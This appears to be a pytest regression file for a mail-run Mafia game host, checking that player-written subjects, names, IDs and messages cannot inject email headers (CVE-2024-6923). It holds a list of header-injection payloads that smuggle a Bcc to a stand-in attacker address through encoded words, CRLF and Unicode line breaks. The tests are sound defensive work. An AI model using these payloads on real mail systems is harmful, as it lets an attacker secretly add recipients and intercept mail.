"""A player's text that would become a header of ours (CVE-2024-6923).

It becomes none: in a mail of ours are the headers that we set, and one recipient.
"""

from email.message import EmailMessage
from email.policy import SMTP

import pytest

from mailhost.engine.commands import Replace
from mailhost.engine.refusals import Refused
from mailhost.host.dispatch import Dispatch
from mailhost.host.hand import carry_out
from mailhost.host.rehearsal import GAME
from mailhost.host.relaying import Relay, relay
from tests.attacks.town import Town, as_read, eml
from tests.host.reception import Reception

OURS = {
    "From", "To", "Reply-To", "Subject", "Date", "Message-ID", "In-Reply-To", "References", "Auto-Submitted",
    "X-Auto-Response-Suppress", "X-Loop", "MIME-Version", "Content-Type", "Content-Transfer-Encoding",
}  # fmt: skip
BCC = "Bcc: mallory@evil.example"
SMUGGLED = (
    f"x=?UTF-8?Q?=0A?={BCC}",
    f"x=?UTF-8?Q?=0D=0A?={BCC}",
    "x=?utf-8?b?DQpCY2M6IG1hbGxvcnlAZXZpbC5leGFtcGxl?=",
    f"=?utf-8?q?vote_=3D=3FUTF-8=3FQ=3F=3D0A{BCC.replace(' ', '_').replace(':', '=3A')}=3F=3D?=",
    f"=?utf-8?q?vote=0D=0A{BCC.replace(' ', '_').replace(':', '=3A')}?=",
    f"x\r\n {BCC}",
    f"x\x0b{BCC}",
    f"x\u2028{BCC}",
    f"x\x85{BCC}",
    f"=?utf-16?b?{'AAo=' * 3}?= {BCC}",
)


def only_ours(town_mail: EmailMessage) -> None:
    """No header but ours, none twice, one recipient."""
    assert set(town_mail.keys()) <= OURS
    assert len(set(town_mail.keys())) == len(town_mail.keys())
    assert "mallory" not in str(town_mail["To"])


@pytest.mark.parametrize("text", SMUGGLED)
@pytest.mark.parametrize("field", ["Subject", "Message-ID", "From name", "In-Reply-To", "References"])
def test_by_a_header_that_is_answered(field: str, text: str) -> None:
    town = Town()
    sender = "player3@players.example.org"
    fields = {"From name": f"From: {text} <{sender}>"}.get(field, f"{field}: {text}")
    head = [fields] if field == "From name" else [f"From: {sender}", fields]
    town.suffers(eml(*head, f"To: {town.reply_to('Вера')}", body="казнить Борю"), "2 11:00")
    left = town.leaves()
    # With an at sign in its name, unquoted, a From is nobody's.
    assert left or field == "From name"
    for mail in left:
        only_ours(mail)
        assert mail["To"] == sender


@pytest.mark.parametrize("text", SMUGGLED)
def test_by_words_that_are_passed_on(text: str) -> None:
    town = Town()
    town.answers_as("Боря", f"последнее слово: {text}", "2 11:00")
    town.answers_as("Боря", f"мафии: {text}", "2 11:01")
    left = town.leaves()
    assert len(left) > 7
    for mail in left:
        only_ours(mail)


@pytest.mark.parametrize("text", SMUGGLED)
def test_by_a_nickname(text: str) -> None:
    """The name is in the subject of the question whether he means it, and in posts if he does."""
    hall = Reception()
    mail = EmailMessage(policy=SMTP)
    mail["From"], mail["To"], mail["Message-ID"] = "new@players.example.org", "host@example.org", "<1@x>"
    mail.set_content(f"записаться {text}")
    hall.deliver(mail, "1 10:00")
    hall.write("new@players.example.org", "да", "1 10:05")
    for each in hall.mails():
        raw = each_as_sent(hall, each.id)
        only_ours(as_read(raw))


@pytest.mark.parametrize("text", SMUGGLED)
def test_by_a_name_in_a_subject(text: str) -> None:
    """Whatever is written to a player without mail has his name in front, for the host to hand on."""
    town = Town()
    made = carry_out(town.house, GAME, lambda _: Replace(3, text, None), "host")
    assert not isinstance(made, Refused)
    town.leaves()
    town.look("2 11:00")
    entry = relay(town.house, GAME, Relay("3", "роль\nстатус\nказнить Борю"), "host")
    assert not isinstance(entry, Refused)
    left = town.leaves()
    assert [mail["To"] for mail in left] == [each.to for each in entry.messages]
    assert any(": " in each.subject and each.subject.startswith("x") for each in entry.messages) or not text.startswith(
        "x"
    )
    for mail in left:
        only_ours(mail)


def each_as_sent(hall: Reception, message_id: str) -> bytes:
    """Its bytes."""
    book = next(book for book in hall.house.ledger.books.values() if message_id in book.pending)
    dispatch = Dispatch(hall.house, None)  # type: ignore[arg-type]
    return dispatch.bytes_of(book.stream, book.pending[message_id])
